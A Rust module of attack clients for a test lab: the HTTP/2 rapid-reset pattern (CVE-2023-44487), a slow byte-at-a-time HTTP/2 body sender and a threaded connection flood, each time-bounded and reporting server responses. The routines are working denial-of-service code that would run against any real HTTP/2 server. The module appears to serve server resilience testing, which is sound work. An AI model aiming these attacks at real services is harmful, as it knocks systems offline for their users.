//! Attackers for the lab's attack tests, written from the attack's description rather than
//! with a client library (which would refuse to misbehave): the HTTP/2 rapid-reset pattern
//! (CVE-2023-44487), a slow HTTP/2 client holding many streams open with a byte at a time,
//! and a flood of unauthenticated connections. Each runs on plain blocking sockets for a
//! bounded time and reports what the server did to it. Run them inside a lab namespace
//! ([`crate::Lab::run_in`]).

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

/// The client preface every HTTP/2 connection starts with.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const FRAME_DATA: u8 = 0x0;
const FRAME_HEADERS: u8 = 0x1;
const FRAME_RST_STREAM: u8 = 0x3;
const FRAME_SETTINGS: u8 = 0x4;
const FRAME_GOAWAY: u8 = 0x7;
const FLAG_END_STREAM: u8 = 0x1;
const FLAG_END_HEADERS: u8 = 0x4;
const FLAG_ACK: u8 = 0x1;
const CANCEL: u32 = 0x8;

/// What the server did to one attacking connection.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct H2Outcome {
    /// Streams the attacker opened.
    pub streams: u64,
    /// Streams the server answered (sent response headers on).
    pub answered: u64,
    /// The GOAWAY error code the server sent, if it sent one.
    pub goaway: Option<u32>,
    /// The last stream the server says it processed, from its GOAWAY.
    pub last_processed: Option<u32>,
    /// Whether the server closed the connection (or reset it) before the attack ended.
    pub closed: bool,
}

/// One HTTP/2 frame: its 9-byte header and `payload`.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = payload.len() as u32;
    let mut out = Vec::with_capacity(9 + payload.len());
    out.extend_from_slice(&length.to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// A request's header block in HPACK without dynamic state: `:method` (GET or POST) and
/// `:scheme: http` from the static table, `:path` from it too when it is `/` (else a
/// literal), `:authority` as a literal. Values are shorter than 127 bytes.
fn request_headers(post: bool, path: &str, authority: &str) -> Vec<u8> {
    let method = if post { 0x83 } else { 0x82 };
    let mut block = vec![method, 0x86];
    match path {
        "/" => block.push(0x84),
        _ => {
            // Literal without indexing, name from the static table (4, `:path`).
            block.extend_from_slice(&[0x04, path.len() as u8]);
            block.extend_from_slice(path.as_bytes());
        }
    }
    block.extend_from_slice(&[0x01, authority.len() as u8]);
    block.extend_from_slice(authority.as_bytes());
    if post {
        // content-length (static index 28) as a literal without indexing: a large body that
        // will arrive a byte at a time.
        block.extend_from_slice(&[0x0f, 0x0d, 0x07]);
        block.extend_from_slice(b"1000000");
    }
    block
}

/// Reads what the server sent so far without blocking for long, and notes a GOAWAY or the
/// connection's end. Acknowledges the server's SETTINGS, as a real client must.
struct Inbox {
    buffer: Vec<u8>,
    answered: std::collections::BTreeSet<u32>,
    goaway: Option<(u32, u32)>,
    closed: bool,
}

impl Inbox {
    fn new() -> Inbox {
        Inbox { buffer: Vec::new(), answered: Default::default(), goaway: None, closed: false }
    }

    fn outcome(&self, streams: u64) -> H2Outcome {
        H2Outcome {
            streams,
            answered: self.answered.len() as u64,
            goaway: self.goaway.map(|(_, code)| code),
            last_processed: self.goaway.map(|(last, _)| last),
            closed: self.closed,
        }
    }

    fn poll(&mut self, stream: &mut TcpStream) {
        let mut chunk = [0u8; 16 * 1024];
        loop {
            match stream.read(&mut chunk) {
                Ok(0) => {
                    self.closed = true;
                    break;
                }
                Ok(n) => self.buffer.extend_from_slice(&chunk[..n]),
                Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => break,
                Err(_) => {
                    self.closed = true;
                    break;
                }
            }
        }
        while self.buffer.len() >= 9 {
            let length = u32::from_be_bytes([0, self.buffer[0], self.buffer[1], self.buffer[2]]);
            let total = 9 + length as usize;
            if self.buffer.len() < total {
                break;
            }
            let (kind, flags) = (self.buffer[3], self.buffer[4]);
            let stream_id = u32::from_be_bytes([
                self.buffer[5],
                self.buffer[6],
                self.buffer[7],
                self.buffer[8],
            ]) & 0x7fff_ffff;
            if kind == FRAME_HEADERS {
                self.answered.insert(stream_id);
            }
            if kind == FRAME_GOAWAY && length >= 8 {
                let word = |at: usize| {
                    let bytes = &self.buffer[at..at + 4];
                    u32::from_be_bytes([bytes[0], bytes[1], bytes[2], bytes[3]])
                };
                self.goaway = Some((word(9) & 0x7fff_ffff, word(13)));
            }
            if kind == FRAME_SETTINGS && flags & FLAG_ACK == 0 {
                let _ = stream.write_all(&frame(FRAME_SETTINGS, FLAG_ACK, 0, &[]));
            }
            self.buffer.drain(..total);
        }
    }
}

fn open_h2(target: SocketAddr) -> std::io::Result<TcpStream> {
    let mut stream = TcpStream::connect_timeout(&target, Duration::from_secs(2))?;
    stream.set_nodelay(true)?;
    stream.set_read_timeout(Some(Duration::from_millis(1)))?;
    stream.set_write_timeout(Some(Duration::from_secs(2)))?;
    stream.write_all(PREFACE)?;
    stream.write_all(&frame(FRAME_SETTINGS, 0, 0, &[]))?;
    Ok(stream)
}

/// The rapid-reset pattern on one h2c connection to `target` for at most `duration` or
/// `max_streams` streams: open a stream with a complete request for `path`, cancel it
/// `reset_after` later (at once for zero), again. The server is expected to end the
/// connection.
pub fn h2_rapid_reset(
    target: SocketAddr,
    path: &str,
    reset_after: Duration,
    duration: Duration,
    max_streams: u64,
) -> std::io::Result<H2Outcome> {
    let mut stream = open_h2(target)?;
    let authority = target.to_string();
    let headers = request_headers(false, path, &authority);
    let mut inbox = Inbox::new();
    let mut streams = 0;
    let started = Instant::now();
    let mut id: u32 = 1;
    while started.elapsed() < duration && streams < max_streams && id < 0x7fff_fff0 {
        let open = frame(FRAME_HEADERS, FLAG_END_HEADERS | FLAG_END_STREAM, id, &headers);
        let cancel = frame(FRAME_RST_STREAM, 0, id, &CANCEL.to_be_bytes());
        let sent = match reset_after.is_zero() {
            true => stream.write_all(&[open, cancel].concat()),
            false => stream.write_all(&open).and_then(|()| {
                std::thread::sleep(reset_after);
                stream.write_all(&cancel)
            }),
        };
        if sent.is_err() {
            inbox.closed = true;
            break;
        }
        streams += 1;
        id += 2;
        if streams % 16 == 0 || !reset_after.is_zero() {
            inbox.poll(&mut stream);
            if inbox.closed || inbox.goaway.is_some() {
                break;
            }
        }
    }
    // The close follows a GOAWAY once the server's grace for streams in flight is over.
    let settle = Instant::now();
    while settle.elapsed() < Duration::from_secs(3) && !inbox.closed {
        inbox.poll(&mut stream);
        std::thread::sleep(Duration::from_millis(10));
    }
    Ok(inbox.outcome(streams))
}

/// A slow h2c client on one connection to `target`: opens `streams` POST streams each
/// declaring a megabyte of body, then sends one byte on each stream every `spacing`, for
/// `duration` (a stream the server answered gets its bytes anyway: the attacker does not
/// care). Returns what the server did to it.
pub fn h2_slow_bodies(
    target: SocketAddr,
    streams: u32,
    spacing: Duration,
    duration: Duration,
) -> std::io::Result<H2Outcome> {
    let mut stream = open_h2(target)?;
    let headers = request_headers(true, "/", &target.to_string());
    let mut inbox = Inbox::new();
    let mut opened = 0;
    for n in 0..streams {
        if stream.write_all(&frame(FRAME_HEADERS, FLAG_END_HEADERS, 1 + 2 * n, &headers)).is_err() {
            inbox.closed = true;
            break;
        }
        opened += 1;
    }
    let started = Instant::now();
    while started.elapsed() < duration && !inbox.closed {
        for n in 0..streams {
            if stream.write_all(&frame(FRAME_DATA, 0, 1 + 2 * n, b"x")).is_err() {
                inbox.closed = true;
                break;
            }
        }
        let pause = Instant::now();
        while pause.elapsed() < spacing && !inbox.closed {
            inbox.poll(&mut stream);
            std::thread::sleep(Duration::from_millis(20));
        }
    }
    Ok(inbox.outcome(opened))
}

/// How an unauthenticated flood went.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct FloodOutcome {
    /// Connections opened.
    pub connections: u64,
    /// Connections the server answered with an HTTP status (a refusal, for a flood).
    pub answered: u64,
    /// Connections that ended with no answer (TLS refused, closed, reset, timed out).
    pub unanswered: u64,
    /// HTTP statuses seen, by code.
    pub statuses: std::collections::BTreeMap<u16, u64>,
}

/// Starts and stops floods, and counts their connections as they go.
#[derive(Debug, Default)]
pub struct FloodControl {
    stop: std::sync::atomic::AtomicBool,
    connections: std::sync::atomic::AtomicU64,
}

impl FloodControl {
    /// Ends the floods under this control (each finishes its connection in hand).
    pub fn stop(&self) {
        self.stop.store(true, std::sync::atomic::Ordering::Relaxed);
    }

    /// Connections the floods have opened so far.
    pub fn connections(&self) -> u64 {
        self.connections.load(std::sync::atomic::Ordering::Relaxed)
    }

    fn stopped(&self) -> bool {
        self.stop.load(std::sync::atomic::Ordering::Relaxed)
    }
}

/// The longest a flood runs if nobody stops it.
const LONGEST_FLOOD: Duration = Duration::from_secs(120);

/// Opens connections to `target` from `threads` threads until `control` stops it (at most
/// [`LONGEST_FLOOD`]), each sending `request` (over `wrap`, which may add TLS) and reading
/// the answer's status line.
pub fn flood<S: Read + Write>(
    target: SocketAddr,
    threads: usize,
    control: &FloodControl,
    request: &[u8],
    wrap: impl Fn(TcpStream) -> std::io::Result<S> + Sync,
) -> FloodOutcome {
    let results: Vec<FloodOutcome> = std::thread::scope(|scope| {
        let workers: Vec<_> = (0..threads)
            .map(|_| {
                scope.spawn(|| {
                    let mut outcome = FloodOutcome::default();
                    let started = Instant::now();
                    while !control.stopped() && started.elapsed() < LONGEST_FLOOD {
                        outcome.connections += 1;
                        control.connections.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                        match one_flood_request(target, request, &wrap) {
                            Some(status) => {
                                outcome.answered += 1;
                                *outcome.statuses.entry(status).or_default() += 1;
                            }
                            None => outcome.unanswered += 1,
                        }
                    }
                    outcome
                })
            })
            .collect();
        workers.into_iter().filter_map(|w| w.join().ok()).collect()
    });
    let mut total = FloodOutcome::default();
    for result in results {
        total.connections += result.connections;
        total.answered += result.answered;
        total.unanswered += result.unanswered;
        for (status, count) in result.statuses {
            *total.statuses.entry(status).or_default() += count;
        }
    }
    total
}

fn one_flood_request<S: Read + Write>(
    target: SocketAddr,
    request: &[u8],
    wrap: &impl Fn(TcpStream) -> std::io::Result<S>,
) -> Option<u16> {
    let tcp = TcpStream::connect_timeout(&target, Duration::from_secs(1)).ok()?;
    tcp.set_read_timeout(Some(Duration::from_secs(2))).ok()?;
    tcp.set_write_timeout(Some(Duration::from_secs(2))).ok()?;
    let mut stream = wrap(tcp).ok()?;
    stream.write_all(request).ok()?;
    stream.flush().ok()?;
    let mut head = [0u8; 12];
    stream.read_exact(&mut head).ok()?;
    std::str::from_utf8(&head[9..12]).ok()?.parse().ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_carry_length_type_flags_and_stream() {
        let bytes = frame(FRAME_RST_STREAM, 0, 3, &CANCEL.to_be_bytes());
        assert_eq!(bytes, [0, 0, 4, 3, 0, 0, 0, 0, 3, 0, 0, 0, 8]);
    }

    #[test]
    fn the_request_header_block_is_hpack_a_decoder_reads() {
        let block = request_headers(true, "/", "198.18.0.11:80");
        // Indexed :method POST, :scheme http, :path /; literal :authority; literal
        // content-length.
        assert_eq!(&block[..4], &[0x83, 0x86, 0x84, 0x01]);
        assert_eq!(usize::from(block[4]), "198.18.0.11:80".len());
        assert!(block.ends_with(b"\x0f\x0d\x071000000"));
        let block = request_headers(false, "/stuck", "lb");
        assert_eq!(block, b"\x82\x86\x04\x06/stuck\x01\x02lb");
    }
}
